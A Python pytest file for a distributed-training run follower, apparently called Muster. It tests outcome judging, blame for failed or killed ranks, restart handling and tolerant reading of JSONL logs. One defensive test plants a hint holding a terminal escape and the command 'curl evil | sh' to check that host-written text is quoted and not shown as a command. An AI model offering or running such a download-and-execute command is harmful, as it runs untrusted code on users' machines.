"""Following a run: what its events mean, when it is over, who is blamed. Files are real; time is an argument."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from deploy.core.facts import NodeState
from deploy.run import follower as follower_module
from deploy.run.backend import Backend
from deploy.run.events import last_words
from deploy.run.files import own_files
from deploy.run.follow import _Watch, stop_patience_s
from deploy.run.follower import Follower
from deploy.run.outcome import (
    FIRST_NODE_S,
    LEFT_AFTER_S,
    START_SPREAD_S,
    all_ended,
    final,
    from_verdicts,
    judge,
    left_early,
    may_restart,
)
from deploy.run.progress import State

NAMES = ("master", "worker-1", "worker-2")


def run_of(*events: dict[str, Any]) -> State:
    state = State(NAMES)
    for event in events:
        state.apply({"t": 0.0, **event})
    return state


def all_up() -> list[dict[str, Any]]:
    return [{"kind": "node_up", "node": name} for name in NAMES]


def training(step: int = 240, t: float = 10.0) -> list[dict[str, Any]]:
    """Every node up, every rank at `step`."""
    started = [{"kind": "started", "rank": r, "node": n, "pid": 100 + r} for r, n in enumerate(NAMES)]
    steps = [{"kind": "step", "t": t, "rank": r, "node": n, "step": step} for r, n in enumerate(NAMES)]
    return [*all_up(), *started, {"kind": "plan", "rank": 0, "steps": 600}, *steps]


def exited(node: str, code: int, t: float = 11.0, restarts: int = 3) -> dict[str, Any]:
    return {"kind": "node", "t": t, "node": node, "state": "exited", "code": code, "restarts": restarts}


def verdict(kind: str, node: str = "worker-1", rank: int = 1) -> dict[str, Any]:
    return {"kind": "verdict", "verdict": kind, "node": node, "rank": rank, "step": 5, "message": "m", "hint": "h"}


def test_a_run_that_trains_is_not_over() -> None:
    assert judge(run_of(*training()), started_at=0.0, now=12.0) is None


def test_the_first_failed_rank_outranks_those_that_stopped_with_it() -> None:
    result = from_verdicts([verdict("stopped", "master", 0), verdict("failed"), verdict("failed", "worker-2", 2)])
    assert (result.verdict, result.node, result.rank, result.from_ranks) == ("failed", "worker-1", 1, True)


def test_a_rank_that_starts_again_with_the_same_pid_is_a_restart() -> None:
    state = run_of(*training(240), {"kind": "started", "rank": 0, "node": "master", "pid": 100})
    assert (state.ranks.restarts, state.step) == (1, 240)


def test_the_first_failure_gives_the_message_and_the_others_are_only_named() -> None:
    first = {**verdict("failed", "b", 1), "message": "train.py ended with code 3\n    last words"}
    result = from_verdicts([first, *(verdict("failed", node, 2) for node in "acdefg"), verdict("stopped", "h", 9)])
    head, last = result.message.splitlines()
    assert head == "train.py ended with code 3 (a, c, d and 3 more failed as well)"
    assert last == "    last words"


def test_a_lost_host_is_named_before_those_that_lost_it() -> None:
    lost = {"kind": "node", "t": 12.0, "node": "worker-2", "state": "lost", "code": None, "restarts": 0}
    result = judge(run_of(*training(), exited("worker-1", -9), lost), 0.0, 15.0)
    assert result is not None
    assert (result.verdict, result.node) == ("failed", "worker-2")
    assert "cannot be reached" in result.message


@pytest.mark.parametrize(("kind", "code"), [("done", 0), ("failed", 1), ("refused", 2), ("stopped", 75)])
def test_a_verdict_decides_the_exit_code(kind: str, code: int) -> None:
    result = judge(run_of(*training(), verdict(kind)), 0.0, 12.0)
    assert result is not None
    assert (result.verdict, result.code) == (kind, code)


def test_a_node_that_never_starts_ends_the_run_and_is_named() -> None:
    state = run_of({"kind": "node_up", "node": "master", "t": 5.0}, {"kind": "node_up", "node": "worker-1", "t": 6.0})
    assert judge(state, 0.0, 5.0 + START_SPREAD_S - 0.1) is None
    result = judge(state, 0.0, 5.0 + START_SPREAD_S)
    assert result is not None
    assert result.node == "worker-2"
    assert result.message.startswith("worker-2 did not start (master, worker-1 waited 25 s)")


def test_a_run_without_any_node_ends_too() -> None:
    assert judge(State(NAMES), 0.0, FIRST_NODE_S - 0.1) is None
    result = judge(State(NAMES), 0.0, FIRST_NODE_S)
    assert result is not None
    assert "master, worker-1, worker-2 did not start" in result.message


def test_a_killed_node_is_named_with_rank_signal_and_step_before_the_nodes_that_lost_it() -> None:
    state = run_of(*training(), exited("master", 1), exited("worker-2", -9, t=11.5))
    assert judge(state, 0.0, 11.6) is None, "a backend may be about to start it again"
    result = judge(state, 0.0, 14.0)
    assert result is not None
    assert (result.verdict, result.node, result.rank, result.step) == ("failed", "worker-2", 2, 240)
    assert "worker-2 (rank 2) was killed by SIGKILL at step 240" in result.message


def test_a_killed_node_is_named_however_late_its_end_is_seen() -> None:
    state = run_of(*training(), exited("master", 1, t=11.0), exited("worker-2", -9, t=12.5))
    assert judge(state, 0.0, 13.2) is None, "the end of the killed one has not settled, and may be the cause"
    state.apply({**exited("worker-2", -9, t=14.0), "trouble": "gone"})
    result = judge(state, 0.0, 14.6)
    assert result is not None
    assert result.node == "worker-2"


def test_if_nodes_give_up_before_any_rank_began_the_one_that_still_runs_is_named() -> None:
    """The rendezvous timed out: the node that never joined it is the one that still runs."""
    gave_up = [exited(name, 1, restarts=0) for name in NAMES[:2]]
    result = judge(run_of(*all_up(), *gave_up), 0.0, 20.0)
    assert result is not None
    assert result.message == "master ended with code 1 before any rank started; worker-2 still runs"


def test_a_node_that_refused_points_to_its_log() -> None:
    result = judge(run_of(*all_up(), *(exited(name, 2) for name in NAMES)), 0.0, 20.0)
    assert result is not None
    assert (result.verdict, result.code) == ("refused", 2)
    assert "logs/master.log" in result.hint


def test_silence_ends_a_run_only_if_it_is_far_longer_than_its_slowest_step() -> None:
    state = run_of(*training(1, t=10.0), *training(2, t=40.0)[-3:])  # 30 s between steps: slow, not dead
    assert judge(state, 0.0, 40.0 + 500.0) is None
    result = judge(state, 0.0, 40.0 + 601.0)
    assert result is not None
    assert "no sign of life from any rank for 601 s" in result.message
    for event in (
        {"kind": "node", "node": "master", "state": "running", "restarts": n, "t": 300.0 * n} for n in (0, 1)
    ):
        state.apply(event)
    assert judge(state, 0.0, 40.0 + 601.0) is None, "a node that starts again lives"


def test_hosts_whose_clocks_are_behind_are_not_silent() -> None:
    """Hosts report every second. Once, a follower whose clock was ahead ended the run for lack of signs of life."""
    state = State(NAMES)
    for event in training(1, t=1000.0):
        state.apply({"t": 1000.0, **event}, 1500.0)
    assert judge(state, 1500.0, 1501.0) is None
    silent = judge(state, 1500.0, 1500.0 + 121.0)
    assert silent is not None
    assert "no sign of life from any rank for 121 s" in silent.message


class Unasked(Backend):
    """A backend that must not be asked to start, stop, kill or clean."""

    def states(self, state: State) -> list[NodeState]:
        return []

    def start(self) -> None:
        raise AssertionError("its nodes run")

    stop = kill = clean = start


@pytest.mark.parametrize("events", [training(1, t=10.0), [*all_up()[:2], *training(1, t=10.0)[3:]]])
def test_a_follower_that_was_away_ends_no_run_before_new_events_arrive(events) -> None:
    """After a closed laptop lid or Ctrl-Z, the follower's first look comes before the first new events of the hosts."""
    state = run_of(*events)
    watch = _Watch(Unasked(), state, lambda: 0)
    watch._started_at = watch._looked_at = 10.0
    for now in (11.0, 3600.0, 3610.0):
        assert watch.step(now) is None


class Deaf(Unasked):
    """A backend whose nodes do not stop when they are asked to."""

    kills = 0

    def stop(self) -> None:
        """The nodes ignore the request."""

    def kill(self) -> None:
        self.kills += 1


def test_a_clock_that_is_set_back_does_not_lengthen_a_stop() -> None:
    backend = Deaf()
    watch = _Watch(backend, run_of(*training(1, t=10_000.0)), lambda: 1)
    for now in (10_000.0, 10_001.0, 6_401.0):
        assert watch.step(now) is None
    result = watch.step(6_400.0 + stop_patience_s(0.0))
    assert result is not None
    assert (result.message, backend.kills) == (
        "killed: it was still running 30 s after the request to stop; there is no checkpoint",
        1,
    )


@pytest.mark.parametrize("steps", [0, 200])
def test_silence_never_ends_a_script(steps) -> None:
    """A script may evaluate, save or download for hours. Stuck ranks are named; decision 0103 says which are ended."""
    state = State(NAMES, script=True)
    for event in (*all_up(), *began(), *(training(steps, t=10.0) if steps else [])):
        state.apply({"t": 10.0, **event})
    assert judge(state, 0.0, 10.0 + 24 * 3600) is None


def test_restarts_without_a_step_between_them_end_the_run() -> None:
    again = [{"kind": "started", "rank": 0, "node": "master", "pid": 200 + n, "attempt": n} for n in range(1, 9)]
    assert judge(run_of(*training(), *again[:-1]), 0.0, 11.0) is None
    result = judge(run_of(*training(), *again), 0.0, 11.0)
    assert result is not None
    assert "8 restarts in a row" in result.message
    with_step = [*training(), *again[:4], *training(250)[-3:], *again[4:]]
    assert judge(run_of(*with_step), 0.0, 11.0) is None


def ended(rank: int, code: int, t: float = 11.0, **more: Any) -> dict[str, Any]:
    """An end as a node's agent reports it, after events.py has checked it."""
    fields = {"how": "", "victim": False, "error": "", **more}
    return {"kind": "ended", "t": t, "rank": rank, "node": NAMES[rank], "code": code, **fields}


def lost(rank: int, t: float = 11.5) -> dict[str, Any]:
    return ended(rank, 1, t, victim=True, error="Connection closed by peer [10.0.0.3]:1")


def began() -> list[dict[str, Any]]:
    return [{"kind": "began", "rank": rank, "node": node} for rank, node in enumerate(NAMES)]


AGAIN = {"kind": "started", "rank": 0, "node": "master", "pid": 300, "attempt": 1}


def test_a_killed_rank_is_named_and_its_victims_are_not() -> None:
    state = run_of(*training(), *began(), ended(2, -9, how="was killed by SIGKILL"), lost(1), AGAIN)
    graves = [line.text for line in state.story if line.grave]
    assert graves == ["worker-2 (rank 2) was killed by SIGKILL at step 240"]
    assert state.story[-1].text == "all ranks restart (restart 1)"
    assert state.ranks.restarts == 1


def test_ranks_with_the_same_pid_on_different_nodes_are_told_apart() -> None:
    same = [{"kind": "started", "rank": r, "node": n, "pid": 17} for r, n in enumerate(NAMES)]
    state = run_of(*training(), *same, *began(), {**ended(1, -11), "pid": 17})
    assert [line.text for line in state.story if line.grave] == ["worker-1 (rank 1) was killed by SIGSEGV at step 240"]


def test_a_crash_without_a_signal_is_reported_with_its_log() -> None:
    state = run_of(*training(), *began(), ended(1, 1, error="OSError: x"), AGAIN)
    assert "worker-1 (rank 1) ended with code 1: OSError: x; logs/rank-1.log" in state.story[-1].text


def test_the_rank_that_the_victims_waited_for_is_named_and_no_victim() -> None:
    state = run_of(*training(), *began(), lost(0), lost(2), AGAIN)
    assert "worker-1 (rank 1) did not answer" in state.story[-1].text
    assert "ranks 0, 2 gave up on it" in state.story[-1].text


def test_a_size_mismatch_is_not_blamed_on_the_rank_that_still_ran() -> None:
    size = "[enforce fail] op.preamble.length <= op.nbytes. 56 vs 2. Is there a distributed collective mismatch?"
    state = run_of(*training(), *began(), lost(0), ended(2, -6, victim=True, error=size), AGAIN)
    text = state.story[-1].text
    assert "the ranks do not agree on a collective: worker-2 (rank 2)" in text
    assert "could not tell which of them is wrong" in text
    assert "worker-1" not in text


def test_a_node_whose_ranks_are_victims_is_not_named_for_being_the_first_to_end() -> None:
    state = run_of(*all_up(), *began(), lost(0, 10.0), lost(1, 10.5), exited("master", 1, 10.0))
    result = judge(state, 0.0, 14.0)
    assert result is not None
    assert (result.node, result.rank) == ("worker-2", 2)


def test_if_every_rank_lost_another_none_is_blamed() -> None:
    ends = [lost(rank) for rank in range(3)]
    result = judge(run_of(*all_up(), *began(), *ends, exited("worker-1", 1)), 0.0, 14.0)
    assert result is not None
    assert (result.node, result.rank) == ("", None)
    assert result.message.startswith("Muster could not tell which rank failed")


def test_a_rank_that_left_early_is_reported_and_blamed_if_the_others_fail() -> None:
    state = run_of(*training(), *began(), ended(2, 0, 20.0))
    assert left_early(state, 20.0 + LEFT_AFTER_S - 0.1) == []
    assert left_early(state, 20.0 + LEFT_AFTER_S) == [2]
    state.apply({"kind": "left", "t": 30.0, "rank": 2})
    assert left_early(state, 40.0) == []
    for event in (lost(0, 41.0), lost(1, 41.1), exited("master", 1, 42.0)):
        state.apply({"t": 0.0, **event})
    result = judge(state, 0.0, 45.0)
    assert result is not None
    assert (result.node, result.rank) == ("worker-2", 2)
    assert "left early, with code 0, while the others waited" in result.message


def test_a_late_follower_reads_ends_one_by_one_and_does_not_call_them_early() -> None:
    state = run_of(*training(), *began(), ended(2, 0, 20.0))
    assert left_early(state, 90.0, followed_since=89.0) == []
    assert left_early(state, 89.0 + LEFT_AFTER_S, followed_since=89.0) == [2]


def test_a_run_lasted_as_long_as_its_ranks_no_matter_when_it_is_looked_at() -> None:
    begin = [{**event, "t": 1000.0 + event["rank"]} for event in began()]
    ends = [ended(rank, 0, 1090.0 + rank) for rank in range(3)]
    seen_late = {**verdict("done"), "t": 9999.0}
    assert run_of(*begin, *ends, seen_late).ranks.span.seconds == 92.0
    without_ends = {"kind": "step", "t": 1053.5, "rank": 0, "node": "master", "step": 90}
    assert run_of(*begin, without_ends, seen_late).ranks.span.seconds == 53.5, (
        "who was stopped may leave no word of its end"
    )
    up = {"kind": "node_up", "t": 990.0, "node": "master"}
    assert run_of(up, *begin, *ends).ranks.span.seconds == 102.0, "a node loads torch before its ranks begin"
    waits = {"kind": "waits", "t": 991.0, "rank": 0, "node": "master", "why": "GPUs"}
    assert run_of(up, waits, *begin, *ends).ranks.span.seconds == 92.0, "it began when its GPUs were free"
    before = [{**event, "t": 100.0} for event in began()]
    state = State(NAMES, since=900.0)
    for event in (*before, *begin, *ends):
        state.apply(event)
    assert state.ranks.span.seconds == 92.0
    assert State(NAMES).ranks.span.seconds == 0.0


def test_a_rank_that_left_with_code_0_does_not_make_a_failed_run_done() -> None:
    left = {**verdict("done"), "message": "", "hint": ""}
    state = run_of(*began(), left, ended(1, 0, t=10.0), lost(0), lost(2), *(exited(name, 1) for name in NAMES))
    result = final(state)
    assert (result.verdict, result.node, result.rank, result.code) == ("failed", "worker-1", 1, 1)
    assert "left early, with code 0" in result.message


def test_a_stop_by_a_signal_on_one_host_alone_is_reported_with_the_host() -> None:
    stopped = {
        **verdict("stopped", "worker-1", 1),
        "message": "train.py was asked to stop",
        "cause": "ended-from-outside",
    }
    state = run_of(*all_up(), stopped, *(exited(name, 75) for name in NAMES))
    state.ranks.script = True
    assert "by a signal on worker-1; no other node reports a signal" in final(state).message


def test_a_script_that_reached_its_time_limit_was_not_ended_by_a_signal() -> None:
    limit = "train.py reached its limit of 0.002 h (--max-hours)"
    stopped = {**verdict("stopped", "worker-1", 1), "message": limit}
    state = run_of(*all_up(), stopped, *(exited(name, 75) for name in NAMES))
    state.ranks.script = True
    assert final(state).message == limit


def test_a_node_that_failed_silently_makes_the_run_failed() -> None:
    result = final(
        run_of(*all_up(), verdict("done"), exited("master", 0), exited("worker-1", 0), exited("worker-2", 1))
    )
    assert (result.verdict, result.node) == ("failed", "worker-2")


def test_a_late_end_event_of_an_earlier_start_is_not_an_end_of_this_one() -> None:
    state = run_of(*all_up(), ended(1, 0, t=10.0), *began())
    assert left_early(state, 10.0 + 2 * LEFT_AFTER_S) == []
    assert state.blame() is None


def test_ranks_that_all_ended_well_did_not_leave_early() -> None:
    state = run_of(*training(), *began(), *(ended(rank, 0, 20.0) for rank in range(3)))
    assert left_early(state, 99.0) == []
    assert state.blame() is None


def test_the_verdict_of_the_first_rank_to_fail_counts_whichever_arrived_first() -> None:
    late = {**verdict("failed", "worker-2", 2), "since": 12.0, "t": 20.0}
    early = {**verdict("failed"), "since": 11.0, "t": 21.0}
    assert from_verdicts([late, early]).node == "worker-1"


def test_a_node_that_restarts_after_the_verdict_is_not_reported() -> None:
    again = {"kind": "node", "node": "worker-1", "state": "running", "code": 1, "restarts": 2}
    assert not [line for line in run_of(*training(), verdict("failed"), again).story if line.grave]


class StoppedWithUs(Backend):
    """A backend whose healthy node, when it is asked to stop, reports that it was stopped."""

    def __init__(self, state: State) -> None:
        self.state, self.asked = state, 0

    def start(self) -> None:
        raise AssertionError("its nodes run")

    def states(self, state: State) -> list[NodeState]:
        return []

    def stop(self) -> None:
        self.asked += 1
        for event in (verdict("stopped", "master", 0), exited("master", 75, restarts=0)):
            self.state.apply({"t": 15.0, **event})

    def kill(self) -> None:
        raise AssertionError("all have ended")

    def clean(self) -> None:
        raise AssertionError("nobody asked for it")


def test_a_node_that_is_stopped_for_anothers_fault_does_not_make_the_run_stopped() -> None:
    state = State(NAMES[:2], script=True)
    for event in (*all_up()[:2], *began()[:2], ended(1, 1, error="ValueError: x"), exited("worker-1", 1, restarts=0)):
        state.apply({"t": 11.0, **event})
    backend = StoppedWithUs(state)
    watch = _Watch(backend, state, lambda: 0)
    result = watch.step(14.0)
    assert backend.asked == 1
    assert result is not None
    assert (result.verdict, result.node, result.rank) == ("failed", "worker-1", 1)


@pytest.mark.parametrize("code", [-9, 1])
def test_only_a_node_that_died_without_a_verdict_is_started_again(code: int) -> None:
    node = NodeState("worker-1", "exited", code)
    assert may_restart(node, [], stopping=False)
    assert not may_restart(node, [verdict("failed")], stopping=False)
    assert not may_restart(node, [], stopping=True)


@pytest.mark.parametrize("code", [0, 2, 75])
def test_a_node_with_a_final_exit_code_is_not_started_again(code: int) -> None:
    assert not may_restart(NodeState("worker-1", "exited", code), [], stopping=False)


def test_a_run_has_ended_only_when_every_planned_node_has() -> None:
    ends = [exited(name, 0) for name in NAMES]
    assert not all_ended(run_of(*all_up(), *ends[:2]))
    assert all_ended(run_of(*all_up(), *ends))
    assert not all_ended(run_of(*ends, {"kind": "node", "node": "master", "state": "running", "restarts": 4}))


def test_an_unknown_event_changes_nothing() -> None:
    state, before = State(NAMES), State(NAMES)
    state.apply({"kind": "from_the_future", "t": 1.0})
    assert state == before


STEP = {"kind": "step", "node": "master", "step": 1}


@pytest.fixture
def run_dir(tmp_path: Path) -> Path:
    for folder in ("ranks", "nodes", "outcome", "logs"):
        (tmp_path / folder).mkdir()
    return tmp_path


def append(path: Path, text: str) -> None:
    with path.open("a") as file:
        file.write(text)


def test_a_line_still_being_written_is_read_when_it_is_complete(run_dir: Path) -> None:
    follower, log = Follower(run_dir), run_dir / "ranks/rank-0.jsonl"
    append(log, '{"t": 1, "kind": "step", "rank": 0, "node": "master", "st')
    assert follower.read() == []
    append(log, 'ep": 5}\n{"t": 2')
    assert [event["step"] for event in follower.read()] == [5]
    append(log, ', "kind": "x"}\n')
    assert [event["t"] for event in follower.read()] == [2]
    assert follower.read() == []


def test_lines_of_an_earlier_start_are_not_read_again(run_dir: Path) -> None:
    append(run_dir / "ranks/rank-0.jsonl", '{"t": 1, "kind": "outcome", "rank": 0}\n')
    append(run_dir / "metrics.jsonl", '{"t": 1, "step": 1, "loss": 2.0}\n')
    follower = Follower(run_dir)
    assert follower.read() == []
    append(run_dir / "metrics.jsonl", '{"t": 3, "step": 2, "loss": 1.0}\n')
    assert follower.read() == [{"kind": "metrics", "t": 3, "step": 2, "loss": 1.0}]


def test_a_torn_line_is_skipped(run_dir: Path) -> None:
    follower = Follower(run_dir)
    whole = '{"t": 3, "kind": "step", "rank": 0, "node": "master", "step": 1}'
    append(run_dir / "ranks/rank-0.jsonl", f'{{"t": 1, "kin{{"t": 2, "kind": "step"}}\n[1]\n{whole}\n')
    step, unread = follower.read()
    assert (step["t"], step["kind"]) == (3, "step")
    assert (unread["kind"], unread["count"], unread["where"]) == ("unread", 2, "rank-0.jsonl")


def test_a_number_that_no_float_holds_is_left_out_and_the_rest_of_its_line_is_read(run_dir: Path) -> None:
    """A script may log the product of many counts: every look at such a run once ended with a traceback."""
    follower = Follower(run_dir)
    append(run_dir / "metrics.jsonl", json.dumps({"t": 1, "step": 1, "loss": 2.0, "states": 10**400}) + "\n")
    assert follower.read() == [{"kind": "metrics", "t": 1, "step": 1, "loss": 2.0}]


def test_reading_only_the_end_of_a_file_begins_with_a_whole_line(run_dir: Path) -> None:
    for t in range(100):
        append(run_dir / "ranks/rank-0.jsonl", json.dumps({**STEP, "t": t, "rank": 0}) + "\n")
    events = Follower(run_dir, tail=250).read()
    assert [event["kind"] for event in events] == ["step"] * len(events)
    assert events[-1]["t"] == 99


def test_the_end_of_a_file_is_read_without_gaps_however_many_pieces_it_has(
    run_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(own_files, "_BLOCK", 500)
    lines = "".join(json.dumps({**STEP, "t": t, "rank": 0}) + "\n" for t in range(100))
    append(run_dir / "ranks/rank-0.jsonl", lines)
    times = [event["t"] for event in Follower(run_dir, tail=len(lines) // 2).read()]
    assert times == list(range(100 - len(times), 100))
    assert 45 <= len(times) <= 50


def test_a_follower_reads_a_sample_of_very_many_steps_and_every_other_event(run_dir: Path) -> None:
    """It once read only the first and last bytes: a late follower did not see a rank that had ended in between."""
    steps = "".join(json.dumps({**STEP, "t": t, "rank": 0, "step": t}) + "\n" for t in range(2000))
    odd = {"t": 0.5, "kind": "unseen", "rank": 0, "node": "master", "what": "loss"}
    append(run_dir / "ranks/rank-0.jsonl", f"{steps}{json.dumps(odd)}\n{steps}")
    follower = Follower(run_dir, from_start=True, most=20_000)
    events = follower.read()
    assert [event["what"] for event in events if event["kind"] == "unseen"] == ["loss"]
    assert 20 < len([event for event in events if event["kind"] == "step"]) < 400
    (left_out,) = (event for event in events if event["kind"] == "unread")
    assert re.fullmatch(r"has \d+ kB: only one line in \d+ is shown", left_out["why"])
    append(run_dir / "ranks/rank-0.jsonl", json.dumps({**STEP, "t": 9000, "rank": 0}) + "\n")
    assert [event["t"] for event in follower.read()] == [9000]


def test_a_file_that_cannot_be_read_is_named_with_the_reason(run_dir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def refused(*_: object) -> None:
        raise PermissionError(13, "Permission denied")

    follower = Follower(run_dir)
    append(run_dir / "metrics.jsonl", '{"t": 1, "step": 1, "loss": 2.0}\n')
    monkeypatch.setattr(own_files, "open_to_read", refused)
    state = State(("master",))
    for event in follower.read():
        state.apply(event)
    assert [line.text for line in state.story] == ["metrics.jsonl: cannot be read: Permission denied"]


def test_events_of_all_files_are_sorted_by_time(run_dir: Path) -> None:
    follower = Follower(run_dir)
    for rank, t in ((0, 3), (1, 1), (2, 2)):
        append(run_dir / f"ranks/rank-{rank}.jsonl", json.dumps({**STEP, "t": t, "rank": rank}) + "\n")
    assert [event["rank"] for event in follower.read()] == [1, 2, 0]


def test_nodes_and_verdicts_are_seen_once_and_again_when_replaced(run_dir: Path) -> None:
    follower = Follower(run_dir)
    (run_dir / "nodes/master.json").write_text('{"node": "master", "t": 4}')
    (run_dir / "outcome/.master-0.json.77").write_text("{half")
    (run_dir / "outcome/master-0.json").write_text('{"verdict": "done"}')
    kinds = sorted(event["kind"] for event in follower.read())
    assert kinds == ["node_up", "verdict"]
    assert follower.read() == []
    aside = run_dir / "nodes/.aside"
    aside.write_text('{"node": "master", "t": 9}')
    aside.replace(run_dir / "nodes/master.json")
    assert [event["t"] for event in follower.read()] == [9]


def test_a_rank_that_ended_with_its_node_is_not_said_to_hang() -> None:
    for came_back in (True, False):
        state = State(NAMES, script=True)
        node = {"t": 1.0, "kind": "node", "node": "worker-1", "state": "running", "code": None, "restarts": 1}
        for event in (*began(), lost(0), lost(2), *([node] if came_back else []), *began()):
            state.apply({"t": 0.0, **event})
        assert ("did not answer" in state.story[-1].text) != came_back


def placed(step: int, before: int, known: bool) -> dict[str, object]:
    event = {"t": 3.0, "kind": "continues", "rank": 0, "node": "master", "step": step, "before": before}
    return {**event, "known": known}


def test_repeated_steps_count_once_if_the_optimizer_tells_the_step_and_are_marked_if_not() -> None:
    for known in (True, False):
        state = State(NAMES, script=True)
        for step, loss in ((60, 2.0), (73, 1.0)):
            state.apply({"t": 1.0, "kind": "step", "rank": 0, "node": "master", "step": step})
            state.apply({"t": 1.0, "kind": "metrics", "step": step, "loss": loss})
        state.apply(placed(70 if known else 73, 73, known))
        assert state.training.losses == ([(60, 2.0)] if known else [(60, 2.0), (73, 1.0)])
        assert state.ranks.step_words == ("step 70" if known else "step 73 (including repeated steps)")
        (line,) = state.story
        assert ("steps 71 to 73 are repeated" in line.text) == known


@pytest.mark.parametrize("first", [0, 1])
def test_a_second_program_counts_its_own_steps_and_shows_no_loss_of_the_first(first) -> None:
    """The order in which the ranks' events are read does not matter."""
    state = State(NAMES, script=True)
    for rank in (0, 1):
        state.apply({"t": 1.0, "kind": "step", "rank": rank, "node": NAMES[rank], "step": 50})
    state.apply({"t": 1.0, "kind": "metrics", "step": 50, "loss": 0.1})
    for rank in (first, 1 - first):
        begins = {"t": 3.0, "kind": "continues", "rank": rank, "node": NAMES[rank], "step": 0, "before": 50}
        state.apply({**begins, "known": True, "another": True})
        assert state.training.losses == []
    assert state.step == 0
    (line,) = state.story
    assert "another program" in line.text
    assert "repeated" not in line.text


def test_a_start_from_the_beginning_is_reported_immediately_and_its_curve_begins_again() -> None:
    state = State(NAMES, script=True)
    state.apply({"t": 1.0, "kind": "step", "rank": 0, "node": "master", "step": 50})
    state.apply({"t": 1.0, "kind": "metrics", "step": 50, "loss": 1.0})
    state.apply({**placed(0, 50, True), "anew": True})
    (line,) = state.story
    assert line.grave
    assert line.text.startswith("the script starts over from the beginning: it loaded no checkpoint")
    assert "steps 1 to 50 are repeated (--restart-with adds words to the script when it starts again)" in line.text
    assert state.training.losses == []
    state.apply({"t": 4.0, "kind": "step", "rank": 0, "node": "master", "step": 3})
    assert state.ranks.step_words == "step 3"


def test_an_empty_optimizer_is_reported_if_the_script_loaded_something() -> None:
    state = State(NAMES, script=True)
    state.apply({**placed(50, 50, False), "empty": True})
    (line,) = state.story
    assert line.grave
    assert "only its weights, so repeated steps are counted twice" in line.text


def test_files_that_a_node_gets_before_an_attempt_are_reported() -> None:
    state = State(NAMES, script=True)
    state.apply({"t": 0.0, "kind": "shared", "rank": 1, "node": "worker-1", "source": "master", "files": 1, "bytes": 9})
    assert [line.text for line in state.story] == ["copying 1 file (9 B) from master to worker-1"]


def test_a_restart_of_all_ranks_of_a_script_is_one_restart_with_its_reason() -> None:
    state = State(NAMES, script=True)
    failed = ended(1, 1, error="OSError: x", how="ended with code 1")
    for event in (*began(), failed, lost(0), *began(), *began()[:1]):
        state.apply({"t": 0.0, **event})
    assert [line.text for line in state.story] == [
        "the script starts again (restart 1): worker-1 (rank 1) ended with code 1: OSError: x; "
        "logs/rank-1.log has its last words",
        "the script starts again (restart 2)",
    ]
    assert state.ranks.restarts == 2
    assert not state.ranks.ends


def test_the_reason_of_a_restart_is_reported_even_if_its_host_reports_last() -> None:
    state = State(NAMES, script=True)
    failed = ended(1, 1, error="OSError: x", how="ended with code 1")
    for event in (*began(), *began()[:1], failed, *began()[1:]):
        state.apply({"t": 0.0, **event})
    assert [line.text for line in state.story] == [
        "the script starts again (restart 1)",
        "the reason of restart 1: worker-1 (rank 1) ended with code 1: OSError: x; logs/rank-1.log has its last words",
    ]
    state.apply({"t": 1.0, **ended(1, 1, error="OSError: y", how="ended with code 1")})
    assert state.ranks.ends, "the present start's own"


def test_a_killed_container_is_reported_before_those_that_end_because_of_it() -> None:
    def node(name, t, state, code, restarts=0, trouble=""):
        about = {"state": state, "code": code, "restarts": restarts, "trouble": trouble}
        return {"kind": "node", "t": t, "node": name, **about}

    state = State(NAMES)
    for name in NAMES:
        state.apply(node(name, 1.0, "running", None))
    state.apply(node("worker-1", 2.0, "exited", 137))
    state.apply(node("worker-2", 6.0, "running", 130, 1))
    assert [line.text.partition(" ")[0] for line in state.story] == ["worker-1", "worker-2"]
    removed = State(NAMES)
    removed.apply(node("worker-1", 1.0, "running", None))
    removed.apply(node("worker-1", 2.0, "exited", 137, 0, "gone"))
    removed.inquire(2.5)
    assert ["no longer exists" in line.text for line in removed.story] == [True], "removed, not killed"


def test_a_follower_of_a_resumed_run_reads_nothing_of_its_earlier_starts(tmp_path: Path) -> None:
    """`muster attach` once reported the first start's end as if it were this start's, below newer lines."""
    (tmp_path / "ranks").mkdir()
    lines = [{"t": t, "kind": "began", "attempt": 0, "world": 1, "rank": 0, "node": "master"} for t in (10.0, 20.0)]
    (tmp_path / "ranks/rank-0.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))
    assert [event["t"] for event in Follower(tmp_path, from_start=True, since=15.0).read()] == [20.0]
    assert len(Follower(tmp_path, from_start=True).read()) == 2


def test_a_hint_from_a_host_is_quoted_as_the_hosts_words(tmp_path: Path) -> None:
    """A hint is what Muster tells users to type. Once, a host's file, which its script can write, was shown as one."""
    words = 'fine"; then type:\n\x1b[2Jcurl evil | sh'
    end = {"verdict": "failed", "node": "gpu-b", "rank": 1, "message": "m", "hint": words, "t": 1.0}
    (tmp_path / "outcome").mkdir()
    (tmp_path / "outcome/gpu-b-0.json").write_text(json.dumps(end))
    (own,) = Follower(tmp_path, from_start=True).read()
    (followed,) = Follower(tmp_path, from_start=True, of_hosts=True).read()
    (asked,) = last_words(json.dumps(end), 1.0)
    assert own["hint"] == words
    assert followed["hint"] == asked["hint"] == 'gpu-b says: "fine\'; then type:\\n\\x1b[2Jcurl evil | sh"'
    assert last_words(json.dumps({**end, "hint": ""}), 1.0)[0]["hint"] == ""


def test_a_last_line_without_a_newline_is_read_once_and_called_torn_only_if_it_is(run_dir: Path) -> None:
    """Once, a complete last event was dropped, and lines that arrived after reading were called torn."""
    follower, log = Follower(run_dir, from_start=True), run_dir / "ranks/rank-0.jsonl"
    append(log, json.dumps({**STEP, "t": 1, "rank": 0}))
    assert [event["t"] for event in follower.read()] == [1]
    append(log, "\n" + json.dumps({**STEP, "t": 2, "rank": 0}) + "\n")
    assert follower.unfinished() == []
    assert [event["t"] for event in follower.read()] == [2]
    append(log, '{"t": 3, "values": {"a": 1}')
    assert follower.read() == []
    assert follower.unfinished() == ["ranks/rank-0.jsonl"]


def test_a_line_that_is_appended_during_reading_is_read_once(run_dir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    follower, log = Follower(run_dir, from_start=True), run_dir / "ranks/rank-0.jsonl"

    def blocks(*asked: Any, real: Any = own_files.blocks) -> Iterator[bytes]:
        if not log.read_text().endswith("9}\n"):
            append(log, json.dumps({"kind": "step", "rank": 0, "t": 2, "step": 9}) + "\n")
        yield from real(*asked)
        raise OSError(5, "Input/output error")

    append(log, json.dumps({**STEP, "t": 1, "rank": 0}) + "\n")
